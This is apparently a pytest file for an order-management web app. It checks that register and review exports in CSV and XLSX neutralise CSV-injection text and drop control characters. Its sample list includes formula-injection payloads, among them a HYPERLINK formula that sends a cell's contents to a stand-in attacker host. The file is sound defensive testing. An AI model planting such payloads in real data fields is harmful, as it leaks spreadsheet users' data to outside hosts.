"""No exported file runs what people typed (OWASP: CSV injection), and no character they typed breaks an export.

Text that begins with a formula trigger (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) goes into customer
names, order fields, progress records, tickets, consignments, action items and their notes; every export is
downloaded through the pages, as the role that would download it: in .xlsx no cell is a formula and each such
text reads exactly as typed, in .csv it is written with a single quote in front. Numbers stay numbers. A
control character in a customer name (which XML cannot hold) is dropped, in the review as it is computed and
as it was frozen when filed."""
import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from openpyxl import load_workbook

from orderloop.aftersales.services import ticket_open
from orderloop.core import clock
from orderloop.core.exports import FORMULA_TRIGGERS, csv_cell
from orderloop.masterdata.models import Customer
from orderloop.orders.models import OrderEvent, OrderLine, SalesOrder, Shipment
from orderloop.orders.registers import csv_bytes, xlsx_bytes
from orderloop.reviews.models import ActionItem
from orderloop.reviews.services import action_item_add, action_item_done, review_file

SH = ZoneInfo("Asia/Shanghai")
MARCH = date(2025, 3, 1)
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&B2,"详情")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1 制表符开头",
    "\r=1+1 回车开头",
]
A, B, C, D, E, F = NASTY
SHOWN = {  # the register: the NASTY texts its rows hold (see ``typed``)
    "orders": set(NASTY),        # customer, contact, product, model, payment terms, address, owner, remarks
    "progress": set(NASTY),      # stage, who tracked, record, problem, measure, next step
    "feedback": {A, B, C, D},    # customer, description, solution, result
    "logistics": {A, C, F},      # customer, tracking number, carrier, receiver
}
REGISTERS = list(SHOWN)


def at(day: date, hh: int, mm: int = 0) -> datetime:
    return datetime.combine(day, datetime.min.time(), tzinfo=SH).replace(hour=hh, minute=mm)


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def typed(orders, users, customer):
    """One order of March 2025 taken to 已交付 with a ticket, every text field the exports show holding one
    of the NASTY texts (set in the database as typed: exports must not count on what the forms refuse)."""
    with clock.frozen_at(at(date(2025, 3, 5), 10)):
        order = orders.at("delivered", order_date="2025-03-05")
        ticket = ticket_open(order_id=order.pk, actor=users["account_manager"], ticket_type="quality",
                             description="客户反馈")
    Customer.objects.filter(pk=customer.pk).update(name=A)
    SalesOrder.objects.filter(pk=order.pk).update(contact_name=B, payment_terms=C, delivery_address=D, remarks=E)
    OrderLine.objects.filter(order=order).update(product_name=F, model=A)
    OrderEvent.objects.filter(order=order, type="progress_tracked").update(
        payload={"stage": A, "record": B, "problem": C, "measure": D, "next_step": E})
    users["production"].display_name = F  # who tracked the progress
    users["production"].save(update_fields=["display_name"])
    type(ticket).objects.filter(pk=ticket.pk).update(description=B, solution=C, result=D)
    users["account_manager"].display_name = E  # the order's owner
    users["account_manager"].save(update_fields=["display_name"])
    Shipment.objects.filter(order=order).update(carrier=F, tracking_number=C, received_by_name=A)
    with clock.frozen_at(at(date(2025, 4, 2), 10)):
        items = [action_item_add(month=MARCH, actor=users["sales_manager"], description=f"措施{i}",
                                 owner_id=users["warehouse"].pk, due_date="2025-04-30") for i in range(len(NASTY))]
        for item in items[:3]:
            action_item_done(item_id=item.pk, actor=users["warehouse"], note="完成")
    done = {item.pk for item in items[:3]}
    for item, text, note in zip(items, NASTY, NASTY[1:] + NASTY[:1]):
        ActionItem.objects.filter(pk=item.pk).update(description=text, done_note=note if item.pk in done else "")
    return order


def xlsx_cells(content: bytes):
    """Every cell of every sheet, as openpyxl reads it; and no formula element in any sheet's XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_xlsx_keeps_text(content: bytes) -> set[str]:
    """No formula anywhere; the NASTY texts found, each a string cell reading exactly as typed."""
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
    return {cell.value for cell in cells if cell.value in NASTY and cell.data_type == "s"}


def assert_csv_quotes_triggers(content: bytes) -> set[str]:
    """No cell begins with a formula trigger unless it is a number; the NASTY texts found, each with a quote."""
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_TRIGGERS):
            float(cell)  # a negative number, nothing else
    return {cell[1:] for cell in cells if cell.startswith("'") and cell[1:] in NASTY}


@pytest.mark.parametrize("name", REGISTERS)
def test_every_register_keeps_formula_text_as_text_in_xlsx_and_csv(typed, users, name):
    manager = client_for(users["sales_manager"])
    xlsx = manager.get(f"/registers/{name}.xlsx")
    assert xlsx.status_code == 200
    found_xlsx = assert_xlsx_keeps_text(xlsx.getvalue())
    text = manager.get(f"/registers/{name}.csv")
    assert text.status_code == 200
    found_csv = assert_csv_quotes_triggers(text.getvalue())
    assert found_xlsx == found_csv == SHOWN[name]


def test_the_logistics_table_as_logistics_downloads_it(typed, users):
    logistics = client_for(users["logistics"])
    found = assert_xlsx_keeps_text(logistics.get("/registers/logistics.xlsx").getvalue())
    assert found == SHOWN["logistics"]
    content = logistics.get("/registers/logistics.csv").getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert (rows[1][1], rows[1][5], rows[1][6], rows[1][11]) == ("'" + A, "'" + F, "'" + C, "'" + A)
    assert rows[1][3].startswith("'" + F)  # the goods: product and model


def test_the_review_workbook_keeps_names_action_items_and_notes_as_text(typed, users):
    manager = client_for(users["sales_manager"])
    with clock.frozen_at(at(date(2025, 4, 2), 11)):
        live = manager.get("/reviews/2025-03.xlsx")
        assert live.status_code == 200
        review_file(month=MARCH, actor=users["sales_manager"], summary="=1+1 结论")
        filed = manager.get("/reviews/2025-03.xlsx")
    for response in (live, filed):
        assert assert_xlsx_keeps_text(response.content) == set(NASTY)
        book = load_workbook(io.BytesIO(response.content))
        assert [row[0] for row in book["按客户"].iter_rows(min_row=2, values_only=True)] == [NASTY[0]]
        actions = list(book["优化措施"].iter_rows(min_row=2, values_only=True))
        assert [row[0] for row in actions] == NASTY
        assert [row[5] for row in actions] == NASTY[1:4] + [None, None, None]
        assert book["按客户"]["B2"].data_type == "n" and book["按客户"]["C2"].value == 50000  # numbers stay numbers
    summary = {row[0]: row[1] for row in load_workbook(io.BytesIO(filed.content))["概况"].iter_rows(values_only=True)}
    assert summary["复盘结论"] == "=1+1 结论"


def test_a_control_character_in_a_customer_name_is_dropped_from_every_export(orders, users, customer):
    with clock.frozen_at(at(date(2025, 3, 5), 10)):
        orders.at("delivered", order_date="2025-03-05")
    Customer.objects.filter(pk=customer.pk).update(name="科技\x0b有限\x1f公司\x08")  # PostgreSQL could not hold a NUL
    manager = client_for(users["sales_manager"])
    with clock.frozen_at(at(date(2025, 4, 2), 11)):
        responses = [manager.get("/reviews/2025-03.xlsx"), manager.get("/reviews/2025-03.pdf")]
        review_file(month=MARCH, actor=users["sales_manager"], summary="结论\x0b")  # frozen with the name as it is
        responses += [manager.get("/reviews/2025-03.xlsx"), manager.get("/reviews/2025-03.pdf"),
                      manager.get("/reviews/2025-03/")]
    responses += [manager.get(f"/registers/{name}.{fmt}") for name in REGISTERS for fmt in ("xlsx", "csv")]
    assert [r.status_code for r in responses] == [200] * len(responses)
    for response in (responses[0], responses[2]):
        book = load_workbook(io.BytesIO(response.content))
        assert [row[0] for row in book["按客户"].iter_rows(min_row=2, values_only=True)] == ["科技有限公司"]
    assert "科技有限公司" in responses[-1].getvalue().decode("utf-8-sig")


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text():
    assert csv_cell(Decimal("-2.5")) == Decimal("-2.5") and csv_cell(-3) == -3 and csv_cell(None) == ""
    assert csv_cell(date(2024, 5, 10)) == "2024-05-10" and csv_cell("-2") == "'-2" and csv_cell("备注") == "备注"
    assert csv_cell("\x0b=1") == "'=1"  # what XML cannot hold is dropped first, the quote still goes in front
    rows = [[-3, Decimal("-2.5"), "-2+3", "=A1", 1.5, True]]
    book = load_workbook(io.BytesIO(xlsx_bytes("t", [f"列{i}" for i in range(6)], rows, text_columns=())))
    cells = list(book.active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells] == [(-3, "n"), (-2.5, "n"), ("-2+3", "s"), ("=A1", "s"), (1.5, "n"),
                                                       (True, "b")]
    text = list(csv.reader(io.StringIO(csv_bytes([f"列{i}" for i in range(6)], rows).decode("utf-8-sig"))))
    assert text[1] == ["-3", "-2.5", "'-2+3", "'=A1", "1.5", "True"]
